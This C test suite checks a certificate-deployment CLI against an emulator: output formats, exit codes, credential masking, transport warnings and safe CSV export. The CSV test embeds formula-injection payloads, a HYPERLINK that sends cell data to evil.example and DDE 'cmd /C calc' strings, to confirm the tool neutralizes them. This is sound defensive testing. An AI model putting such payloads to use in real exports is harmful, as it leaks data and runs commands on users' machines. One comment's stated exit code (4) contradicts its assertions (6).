/* The batch CLI as a user runs it: the real certdeck binary, against its in-process emulator
 * (--demo) or a standalone one, checked on stdout, stderr and the exit code. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cjson/cJSON.h>

#include "core/emulator/emulator.h"
#include "core/util.h"
#include "testutil.h"

/* `certdeck ARGS`, its exit code and both outputs. */
#define run_cli(...) tu_run_cli(NULL, NULL, __VA_ARGS__)

static size_t count_lines(const char *s)
{
    size_t n = 0;
    for (; *s; s++)
        n += *s == '\n';
    return n;
}

/* `certdeck --demo detail 2 -o json` prints the seed page's example record, every field and
 * value (RequestId aside, which is per request). */
static void test_detail_json_is_seed_example(void **state)
{
    (void)state;
    struct tu_run r = run_cli("--demo detail 2 -o json");
    assert_int_equal(r.status, 0);
    char *seed_text = tu_read_testdata("seed_detail_response.json", NULL);
    cJSON *seed = cJSON_Parse(seed_text);
    cJSON *got = cJSON_Parse(r.out);
    assert_non_null(seed);
    assert_non_null(got);
    cJSON *resp = cJSON_DetachItemFromObject(seed, "Response");
    cJSON_DeleteItemFromObject(resp, "RequestId");
    assert_true(cJSON_Compare(resp, got, 1));
    cJSON_Delete(resp);
    cJSON_Delete(seed);
    cJSON_Delete(got);
    free(seed_text);
    tu_run_free(&r);
}

static void test_records_table_and_all(void **state)
{
    (void)state;
    struct tu_run r = run_cli("--demo records --all -o table");
    assert_int_equal(r.status, 0);
    assert_non_null(strstr(r.out, "OLD CERT"));
    assert_non_null(strstr(r.out, "OMhKAc35"));
    /* One header line plus one line per generated record (40 by default). */
    assert_int_equal(count_lines(r.out), 41);
    tu_run_free(&r);

    struct tu_run j = run_cli("--demo records --all -o json");
    assert_int_equal(j.status, 0);
    cJSON *root = cJSON_Parse(j.out);
    assert_non_null(root);
    cJSON *list = cJSON_GetObjectItemCaseSensitive(root, "DeployRecordList");
    assert_int_equal(cJSON_GetArraySize(list), 40);
    assert_int_equal(cJSON_GetObjectItemCaseSensitive(root, "TotalCount")->valueint, 40);
    cJSON_Delete(root);
    tu_run_free(&j);
}

static void test_records_csv(void **state)
{
    (void)state;
    struct tu_run r = run_cli("--demo records --limit 5 -o csv");
    assert_int_equal(r.status, 0);
    assert_true(strncmp(r.out, "ID,OLD CERT,RESOURCE TYPES,STATUS,CREATED,UPDATED\r\n", 50) == 0);
    assert_int_equal(count_lines(r.out), 6);
    tu_run_free(&r);
}

/* Every item of a large group comes back under --all, each once. */
static void test_detail_all_pages_everything(void **state)
{
    (void)state;
    char *ds = tu_testdata("dataset_small.json");
    struct tu_run r = run_cli("--demo --dataset '%s' detail 103 --all -o json", ds);
    assert_int_equal(r.status, 0);
    cJSON *root = cJSON_Parse(r.out);
    assert_non_null(root);
    cJSON *run;
    cJSON_ArrayForEach(run, cJSON_GetObjectItemCaseSensitive(root, "DeployRecordDetail"))
    {
        cJSON *g;
        cJSON_ArrayForEach(g, cJSON_GetObjectItemCaseSensitive(run, "RecordDetailList"))
        {
            int total = cJSON_GetObjectItemCaseSensitive(g, "TotalCount")->valueint;
            cJSON *list = cJSON_GetObjectItemCaseSensitive(g, "List");
            assert_int_equal(cJSON_IsArray(list) ? cJSON_GetArraySize(list) : 0, total);
        }
    }
    cJSON_Delete(root);
    tu_run_free(&r);
    free(ds);
}

/* Hostile strings from the API never reach the terminal raw, in any output format. */
static void test_hostile_text_is_inert(void **state)
{
    (void)state;
    char *ds = tu_testdata("dataset_hostile.json");
    const char *formats[] = {"table", "csv", "json"};
    for (size_t f = 0; f < ARRAY_LEN(formats); f++) {
        struct tu_run r = run_cli("--demo --dataset '%s' records --all -o %s", ds, formats[f]);
        assert_int_equal(r.status, 0);
        struct tu_run d = run_cli("--demo --dataset '%s' detail 201 --all -o %s", ds, formats[f]);
        assert_int_equal(d.status, 0);
        const struct tu_run *rs[] = {&r, &d};
        for (size_t k = 0; k < 2; k++) {
            const unsigned char *p = (const unsigned char *)rs[k]->out;
            for (; *p; p++) {
                assert_false(*p == 0x1b || *p == 0x07 || *p == 0x7f);
                if (*p == '\r') assert_true(formats[f][0] == 'c' && p[1] == '\n');
                /* C1 controls (U+0080..U+009F) and U+202E as UTF-8 */
                assert_false(p[0] == 0xc2 && p[1] >= 0x80 && p[1] <= 0x9f);
                assert_false(p[0] == 0xe2 && p[1] == 0x80 && p[2] == 0xae);
            }
        }
        tu_run_free(&r);
        tu_run_free(&d);
    }
    free(ds);
}

/* Batch tables are the same bytes whatever the locale: CJK names are neither replaced nor
 * mis-measured under LC_ALL=C (a cron job, a pipe). */
static void test_table_independent_of_locale(void **state)
{
    (void)state;
    char *ds = tu_testdata("dataset_hostile.json");
    struct tu_run c = run_cli("--demo --dataset '%s' detail 201", ds);
    setenv("LC_ALL", "C", 1);
    struct tu_run plain = run_cli("--demo --dataset '%s' detail 201", ds);
    unsetenv("LC_ALL");
    assert_int_equal(c.status, 0);
    assert_int_equal(plain.status, 0);
    assert_non_null(strstr(plain.out, "\xe5\x8d\x8e\xe5\x8d\x97")); /* 华南 */
    assert_string_equal(c.out, plain.out);
    tu_run_free(&c);
    tu_run_free(&plain);
    free(ds);
}

static void test_usage_errors_exit_2(void **state)
{
    (void)state;
    static const struct {
        const char *args;
        const char *err_has; /* in stderr, or NULL */
    } cases[] = {
        {"--demo frobnicate", "unknown command"},
        {"--demo detail", NULL},
        {"--demo -o yaml records", "yaml"},
        {"--bogus", NULL},
        /* Write actions refuse without --yes when stdin is not a terminal. */
        {"--demo rollback 2", "--yes"},
        {"--demo --read-only rollback 2 --yes", NULL},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct tu_run r = run_cli("%s", cases[i].args);
        assert_int_equal(r.status, 2);
        if (cases[i].err_has) assert_non_null(strstr(r.err, cases[i].err_has));
        tu_run_free(&r);
    }
}

/* Loud warnings for settings that expose the session: plain http:// to a remote host, and
 * --insecure. (A write refused for want of --yes exits before any request is sent.) */
static void test_transport_warnings(void **state)
{
    (void)state;
    setenv("TENCENTCLOUD_SECRET_ID", "AKIDcliTEST", 1);
    setenv("TENCENTCLOUD_SECRET_KEY", "some-key", 1);
    static const struct {
        const char *args;
        const char *warning; /* expected in stderr, or NULL for none */
    } cases[] = {
        {"--allow-http --endpoint http://remote.invalid rollback 2",
         "plain http:// to a remote host"},
        {"--endpoint http://127.0.0.1:1 rollback 2", NULL},
        {"--endpoint http://localhost:8080 rollback 2", NULL},
        {"--endpoint https://ssl.tencentcloudapi.com rollback 2", NULL},
        {"--insecure --endpoint https://remote.invalid rollback 2",
         "TLS certificate verification is OFF"},
    };
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct tu_run r = run_cli("%s", cases[i].args);
        assert_int_equal(r.status, 2);
        assert_non_null(strstr(r.err, "--yes"));
        if (cases[i].warning)
            assert_non_null(strstr(r.err, cases[i].warning));
        else
            assert_null(strstr(r.err, "WARNING"));
        tu_run_free(&r);
    }
    unsetenv("TENCENTCLOUD_SECRET_ID");
    unsetenv("TENCENTCLOUD_SECRET_KEY");
}

/* API errors exit 1 with Code, RequestId and a hint; network errors exit 3. The secret key is
 * never printed. */
static void test_api_and_network_errors(void **state)
{
    (void)state;
    struct emu_config ec = {.secret_id = "AKIDcliTEST", .secret_key = "right-key-123"};
    struct emu *e = tu_emu_start(&ec);
    setenv("TENCENTCLOUD_SECRET_ID", "AKIDcliTEST", 1);
    setenv("TENCENTCLOUD_SECRET_KEY", "wrong-key-456", 1);
    setenv("HOME", "/nonexistent", 1);
    struct tu_run r = run_cli("--endpoint %s records", emu_url(e));
    assert_int_equal(r.status, 1);
    assert_non_null(strstr(r.err, "AuthFailure.SignatureFailure"));
    assert_non_null(strstr(r.err, "RequestId"));
    assert_non_null(strstr(r.err, "hint:"));
    assert_null(strstr(r.err, "wrong-key-456"));
    assert_null(strstr(r.out, "wrong-key-456"));
    tu_run_free(&r);

    setenv("TENCENTCLOUD_SECRET_KEY", "right-key-123", 1);
    r = run_cli("--endpoint %s detail 2 -o json", emu_url(e));
    assert_int_equal(r.status, 0);
    tu_run_free(&r);
    r = run_cli("--endpoint %s doctor", emu_url(e));
    assert_int_equal(r.status, 0);
    assert_non_null(strstr(r.out, "****TEST"));
    assert_null(strstr(r.out, "AKIDcliTEST"));
    assert_null(strstr(r.out, "right-key-123"));
    tu_run_free(&r);
    emu_stop(e);

    r = run_cli("--endpoint http://127.0.0.1:1 --timeout 2 records");
    assert_int_equal(r.status, 3);
    assert_non_null(strstr(r.err, "hint:"));
    tu_run_free(&r);

    unsetenv("TENCENTCLOUD_SECRET_ID");
    unsetenv("TENCENTCLOUD_SECRET_KEY");
    r = run_cli("records");
    assert_int_equal(r.status, 2);
    assert_non_null(strstr(r.err, "TENCENTCLOUD_SECRET_ID"));
    tu_run_free(&r);
}

/* A rollback from the shell changes the server's state: the detail shows one more run, of
 * Type 1. A rollback the service refuses (a task still running) exits 1 and changes nothing. */
static void test_rollback_then_detail_shows_it(void **state)
{
    (void)state;
    /* Each --demo run has its own emulator, so use a standalone one to see the change. */
    char *ds = tu_testdata("dataset_small.json");
    struct emu_config ec = {
        .secret_id = "AKIDcliTEST", .secret_key = "right-key-123", .dataset_file = ds};
    struct emu *e = tu_emu_start(&ec);
    setenv("TENCENTCLOUD_SECRET_ID", "AKIDcliTEST", 1);
    setenv("TENCENTCLOUD_SECRET_KEY", "right-key-123", 1);

    struct tu_run before = run_cli("--endpoint %s detail 101 -o json", emu_url(e));
    assert_int_equal(before.status, 0);
    struct tu_run rb = run_cli("--endpoint %s rollback 101 --yes", emu_url(e));
    assert_int_equal(rb.status, 0);
    assert_non_null(strstr(rb.out, "RequestId"));
    struct tu_run after = run_cli("--endpoint %s detail 101 -o json", emu_url(e));
    assert_int_equal(after.status, 0);
    cJSON *b = cJSON_Parse(before.out), *a = cJSON_Parse(after.out);
    cJSON *runs_b = cJSON_GetObjectItemCaseSensitive(b, "DeployRecordDetail");
    cJSON *runs_a = cJSON_GetObjectItemCaseSensitive(a, "DeployRecordDetail");
    assert_int_equal(cJSON_GetArraySize(runs_a), cJSON_GetArraySize(runs_b) + 1);
    cJSON *last = cJSON_GetArrayItem(runs_a, cJSON_GetArraySize(runs_a) - 1);
    assert_int_equal(cJSON_GetObjectItemCaseSensitive(last, "Type")->valueint, 1);
    cJSON_Delete(a);
    cJSON_Delete(b);
    tu_run_free(&before);
    tu_run_free(&rb);
    tu_run_free(&after);

    /* 104 is still deploying: the service refuses, the CLI says why. */
    rb = run_cli("--endpoint %s rollback 104 --yes", emu_url(e));
    assert_int_equal(rb.status, 1);
    assert_non_null(strstr(rb.err, "FailedOperation."));
    assert_non_null(strstr(rb.err, "hint:"));
    tu_run_free(&rb);

    emu_stop(e);
    free(ds);
    unsetenv("TENCENTCLOUD_SECRET_ID");
    unsetenv("TENCENTCLOUD_SECRET_KEY");
}

/* Splits one CSV document into its cells (quotes undone), one heap string per cell. */
static size_t csv_cells(const char *csv, char ***out)
{
    size_t n = 0, cap = 0;
    char **cells = NULL;
    const char *p = csv;
    while (*p) {
        struct buf cell = {0};
        buf_puts(&cell, "");
        if (*p == '"') {
            for (p++; *p && !(p[0] == '"' && p[1] != '"'); p++) {
                if (*p == '"') p++;
                buf_putc(&cell, *p);
            }
            if (*p == '"') p++;
        } else {
            for (; *p && *p != ',' && *p != '\r'; p++)
                buf_putc(&cell, *p);
        }
        cells = xgrow(cells, &cap, n + 1, sizeof *cells);
        cells[n++] = cell.data;
        if (*p == ',') p++;
        if (*p == '\r') p += 2; /* CRLF ends the row */
    }
    *out = cells;
    return n;
}

static bool has_cell(char **cells, size_t n, const char *want)
{
    for (size_t i = 0; i < n; i++)
        if (!strcmp(cells[i], want)) return true;
    return false;
}

/* A name, domain or error text that a spreadsheet would run as a formula gets a ' in front,
 * in every CSV certdeck writes; --csv-raw writes the sanitized text as it is. */
static void test_csv_defuses_formulas(void **state)
{
    (void)state;
    char *ds = tu_testdata("dataset_formulas.json");
    static const char *const cmds[] = {"records --all", "detail 301 --all"};
    for (size_t c = 0; c < ARRAY_LEN(cmds); c++) {
        struct tu_run r = run_cli("--demo --dataset '%s' %s -o csv", ds, cmds[c]);
        assert_int_equal(r.status, 0);
        char **cells;
        size_t n = csv_cells(r.out, &cells);
        assert_true(n > 6);
        for (size_t i = 0; i < n; i++) {
            assert_null(strchr("=+-@\t\r", cells[i][0]) && cells[i][0] ? cells[i] : NULL);
            free(cells[i]);
        }
        free(cells);
        tu_run_free(&r);
    }
    struct tu_run d = run_cli("--demo --dataset '%s' detail 301 -o csv", ds);
    struct tu_run raw = run_cli("--demo --dataset '%s' detail 301 -o csv --csv-raw", ds);
    assert_int_equal(d.status, 0);
    assert_int_equal(raw.status, 0);
    char **cd, **cr;
    size_t nd = csv_cells(d.out, &cd), nr = csv_cells(raw.out, &cr);
    assert_int_equal(nd, nr);
    static const char *const hostile[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                                          "+SUM(1,1)",
                                          "@SUM(1+1)*cmd|' /C calc'!A0",
                                          "-2+3+cmd|' /C calc'!A0",
                                          " =1+1" /* a tab, sanitized */,
                                          "^M=1+1" /* a CR, sanitized */};
    for (size_t i = 0; i < ARRAY_LEN(hostile); i++) {
        char *quoted = xasprintf("'%s", hostile[i]);
        assert_true(has_cell(cd, nd, quoted));
        assert_false(has_cell(cd, nd, hostile[i]));
        assert_true(has_cell(cr, nr, hostile[i]));
        free(quoted);
    }
    assert_true(has_cell(cd, nd, "safe-name a=b")); /* only the first character counts */
    for (size_t i = 0; i < nd; i++)
        free(cd[i]);
    for (size_t i = 0; i < nr; i++)
        free(cr[i]);
    free(cd);
    free(cr);
    tu_run_free(&d);
    tu_run_free(&raw);
    free(ds);
}

/* A write sent with no clear answer (the reply cut short after the server applied it, or no
 * reply before the timeout) says that it may have been applied, exits 4, and is never sent
 * twice. A write that never left (connection refused) is a plain network error, exit 3. */
static void test_write_outcome_unknown(void **state)
{
    (void)state;
    char *ds = tu_testdata("dataset_small.json");
    struct emu_config ec = {.dataset_file = ds};
    struct emu *e = tu_emu_start(&ec);
    setenv("TENCENTCLOUD_SECRET_ID", EMU_DEMO_SECRET_ID, 1);
    setenv("TENCENTCLOUD_SECRET_KEY", EMU_DEMO_SECRET_KEY, 1);

    emu_set_fault(e, EMU_FAULT_TRUNCATED, 1);
    uint64_t before = emu_request_count(e);
    struct tu_run rb = run_cli("--endpoint %s rollback 101 --yes", emu_url(e));
    assert_int_equal(rb.status, 6);
    assert_int_equal(emu_request_count(e), before + 1); /* sent once */
    assert_non_null(strstr(rb.err, "certdeck: the rollback of record 101 may have been applied "
                                   "— check with `certdeck detail 101` before retrying\n"));
    tu_run_free(&rb);
    /* It was applied: the detail shows the rollback run. */
    struct tu_run d = run_cli("--endpoint %s detail 101 -o json", emu_url(e));
    assert_int_equal(d.status, 0);
    cJSON *root = cJSON_Parse(d.out);
    cJSON *runs = cJSON_GetObjectItemCaseSensitive(root, "DeployRecordDetail");
    cJSON *last = cJSON_GetArrayItem(runs, cJSON_GetArraySize(runs) - 1);
    assert_int_equal(cJSON_GetObjectItemCaseSensitive(last, "Type")->valueint, 1);
    cJSON_Delete(root);
    tu_run_free(&d);

    emu_set_fault(e, EMU_FAULT_TIMEOUT, 1);
    before = emu_request_count(e);
    struct tu_run rt = run_cli("--endpoint %s --timeout 0.5 retry 102 --yes", emu_url(e));
    assert_int_equal(rt.status, 6);
    assert_int_equal(emu_request_count(e), before + 1);
    assert_non_null(strstr(rt.err, "the retry of record 102 may have been applied — check with "
                                   "`certdeck detail 102` before retrying"));
    tu_run_free(&rt);
    emu_set_fault(e, EMU_FAULT_NONE, 0);
    char *url = xstrdup(emu_url(e));
    emu_stop(e);

    struct tu_run refused = run_cli("--endpoint %s rollback 101 --yes", url);
    assert_int_equal(refused.status, 3);
    assert_null(strstr(refused.err, "may have been applied"));
    tu_run_free(&refused);
    free(url);
    free(ds);
    unsetenv("TENCENTCLOUD_SECRET_ID");
    unsetenv("TENCENTCLOUD_SECRET_KEY");
}

/* The smaller checks: plain http:// to a remote host needs --allow-http; a port out of range
 * is a usage error; a missing option value is named as such; a binary credentials file is a
 * parse error; doctor does not claim TLS for http://. */
static void test_endpoint_and_option_checks(void **state)
{
    (void)state;
    setenv("TENCENTCLOUD_SECRET_ID", "AKIDcliTEST", 1);
    setenv("TENCENTCLOUD_SECRET_KEY", "some-key", 1);
    struct tu_run r = run_cli("--endpoint http://remote.invalid records");
    assert_int_equal(r.status, 2);
    assert_non_null(strstr(r.err, "refusing plain http:// to a remote host"));
    assert_non_null(strstr(r.err, "--allow-http"));
    tu_run_free(&r);

    static const char *const ports[] = {"http://127.0.0.1:99999", "https://example.com:0",
                                        "http://127.0.0.1:", "http://127.0.0.1:8x"};
    for (size_t i = 0; i < ARRAY_LEN(ports); i++) {
        r = run_cli("--endpoint %s records", ports[i]);
        assert_int_equal(r.status, 2);
        assert_non_null(strstr(r.err, "the port must be a number from 1 to 65535"));
        tu_run_free(&r);
    }

    r = run_cli("retry --item");
    assert_int_equal(r.status, 2);
    assert_non_null(strstr(r.err, "option --item needs a value"));
    tu_run_free(&r);

    r = run_cli("--endpoint http://127.0.0.1:1 --timeout 0.5 doctor");
    assert_non_null(strstr(r.out, "TLS:          none: plain http://"));
    assert_null(strstr(r.out, "verification on"));
    tu_run_free(&r);
    unsetenv("TENCENTCLOUD_SECRET_ID");
    unsetenv("TENCENTCLOUD_SECRET_KEY");

    char *dir = tu_mkdtemp("cli-bincreds");
    char *path = tu_path(dir, "credentials");
    FILE *f = fopen(path, "wb");
    assert_non_null(f);
    fwrite("\x7f"
           "ELF\x02\x01\x01\0\0\0[default]\n",
           1, 20, f);
    fclose(f);
    setenv("TENCENTCLOUD_CREDENTIALS_FILE", path, 1);
    r = run_cli("records");
    unsetenv("TENCENTCLOUD_CREDENTIALS_FILE");
    assert_int_equal(r.status, 2);
    assert_non_null(strstr(r.err, "not a text INI file"));
    assert_null(strstr(r.err, "no credentials found"));
    tu_run_free(&r);
    tu_rm_rf(dir);
    free(path);
    free(dir);

    /* The emulator's --dataset: a regular file only, and at most 32 MiB. */
    r = run_cli("--demo --dataset /dev/zero records");
    assert_int_equal(r.status, 2);
    assert_non_null(strstr(r.err, "/dev/zero is not a regular file"));
    tu_run_free(&r);
    dir = tu_mkdtemp("cli-bigdataset");
    path = tu_path(dir, "big.json");
    f = fopen(path, "wb");
    assert_non_null(f);
    assert_int_equal(ftruncate(fileno(f), (off_t)33 * 1024 * 1024), 0);
    fclose(f);
    r = run_cli("--demo --dataset '%s' records", path);
    assert_int_equal(r.status, 2);
    assert_non_null(strstr(r.err, "larger than 32 MiB"));
    tu_run_free(&r);
    tu_rm_rf(dir);
    free(path);
    free(dir);
}

/* --max-memory: a record whose instances do not fit stops with a message naming the option
 * (exit 1, nothing on stdout), never an OOM kill; the same record fits a larger budget, and
 * the JSON is whole. A size that is not one is a usage error. */
static void test_max_memory(void **state)
{
    (void)state;
    /* Record 37 of the generated data holds its largest group: 40,000 instances, about 4 MB
     * held compactly (48 bytes an item and its own strings), whatever the data's clock. */
    struct emu_config ec = {.rate = -1, .max_instances = 40000, .data_clock_unix = 1767225600};
    struct emu *e = tu_emu_start(&ec);
    setenv("TENCENTCLOUD_SECRET_ID", EMU_DEMO_SECRET_ID, 1);
    setenv("TENCENTCLOUD_SECRET_KEY", EMU_DEMO_SECRET_KEY, 1);
    struct tu_run r =
        run_cli("--endpoint %s --rate 1000 --max-memory 1M detail 37 --all -o json", emu_url(e));
    assert_int_equal(r.status, 1);
    assert_string_equal(r.out, "");
    assert_non_null(strstr(r.err, "more than --max-memory 1 MiB allows"));
    assert_non_null(strstr(r.err, "hint: raise --max-memory SIZE"));
    tu_run_free(&r);

    r = run_cli("--endpoint %s --rate 1000 --max-memory 64M detail 37 --all -o json", emu_url(e));
    assert_int_equal(r.status, 0);
    cJSON *root = cJSON_Parse(r.out);
    assert_non_null(root);
    const cJSON *runs = cJSON_GetObjectItemCaseSensitive(root, "DeployRecordDetail");
    const cJSON *groups =
        cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(runs, 0), "RecordDetailList");
    const cJSON *clb = cJSON_GetArrayItem(groups, 0);
    int total = cJSON_GetObjectItemCaseSensitive(clb, "TotalCount")->valueint;
    assert_true(total >= 40000);
    assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(clb, "List")), total);
    cJSON_Delete(root);
    tu_run_free(&r);
    unsetenv("TENCENTCLOUD_SECRET_ID");
    unsetenv("TENCENTCLOUD_SECRET_KEY");
    emu_stop(e);

    static const char *const bad[] = {"12Q", "0", "-5M", "512K", "99999999999999999999G", ""};
    for (size_t i = 0; i < ARRAY_LEN(bad); i++) {
        r = run_cli("--demo --max-memory '%s' records", bad[i]);
        assert_int_equal(r.status, 2);
        assert_non_null(strstr(r.err, "--max-memory takes a size"));
        tu_run_free(&r);
    }
}

int main(void)
{
    signal(SIGPIPE, SIG_IGN);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_detail_json_is_seed_example),
        cmocka_unit_test(test_records_table_and_all),
        cmocka_unit_test(test_records_csv),
        cmocka_unit_test(test_detail_all_pages_everything),
        cmocka_unit_test(test_hostile_text_is_inert),
        cmocka_unit_test(test_table_independent_of_locale),
        cmocka_unit_test(test_usage_errors_exit_2),
        cmocka_unit_test(test_transport_warnings),
        cmocka_unit_test(test_api_and_network_errors),
        cmocka_unit_test(test_rollback_then_detail_shows_it),
        cmocka_unit_test(test_csv_defuses_formulas),
        cmocka_unit_test(test_write_outcome_unknown),
        cmocka_unit_test(test_endpoint_and_option_checks),
        cmocka_unit_test(test_max_memory),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
